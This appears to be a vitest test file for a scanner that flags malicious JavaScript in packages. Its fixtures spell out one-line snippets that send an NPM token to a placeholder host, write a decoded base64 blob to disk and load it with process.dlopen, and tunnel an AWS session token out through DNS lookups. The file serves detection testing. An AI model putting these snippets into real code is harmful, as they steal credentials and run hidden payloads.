import { expect, it } from 'vitest';
import { rulesIn } from '../../support/rules-in.js';

it.each([
  'require("https").get(`https://c.example.invalid/${process.env.NPM_TOKEN}`);',
  'require("https").get("https://c.example.invalid/" + process.env.NPM_TOKEN);',
])('knows the address that a text begins with: %s', async (code) => {
  expect(await rulesIn(code)).toContain('code/keys-sent');
});

it('knows no address in a text that begins with a setting', async () => {
  const code = 'require("https").get(`${process.env.HOST}/${process.env.NPM_TOKEN}`);';
  expect(await rulesIn(code)).not.toContain('code/keys-sent');
});

it.each(['"/tmp/" + Math.random() + ".node"', '`${folder()}/x-${Date.now()}.node`'])(
  'knows a file again whose name code puts together: %s',
  async (path) => {
    const code = `const fs = require('fs'); const p = ${path}; fs.writeFileSync(p, Buffer.from(require('./b'), 'base64')); process.dlopen(module, p);`;
    expect(await rulesIn(code)).toContain('code/runs-written');
  },
);

it('knows two names as two files', async () => {
  const code = `const fs = require('fs'); const p = '/tmp/' + a() + '.txt', q = '/opt/' + b() + '.node'; fs.writeFileSync(p, Buffer.from(text, 'base64')); process.dlopen(module, q);`;
  expect(await rulesIn(code)).not.toContain('code/runs-written');
});

const BASE32 = `const letters = 'abcdefghijklmnopqrstuvwxyz234567';
  const encode = (bytes) => {
    let [out, bits, held] = ['', 0, 0];
    for (const byte of bytes) {
      held = (held << 8) | byte;
      for (bits += 8; bits >= 5; bits -= 5) out += letters[(held >>> (bits - 5)) & 31];
    }
    return out;
  };`;

it('follows bits into the letters that stand for them', async () => {
  const code = `${BASE32} require('dns').resolve4(encode(Buffer.from(process.env.AWS_SESSION_TOKEN)) + '.c.example.invalid', () => {});`;
  expect(await rulesIn(code)).toContain('code/dns-tunnel');
});

it('follows no number that is only compared', async () => {
  const code = `${BASE32} const kind = process.env.AWS_SESSION_TOKEN ? 1 : 2; require('dns').resolve4(letters[kind & 31] + '.c.example.invalid', () => {});`;
  expect(await rulesIn(code)).not.toContain('code/dns-tunnel');
});
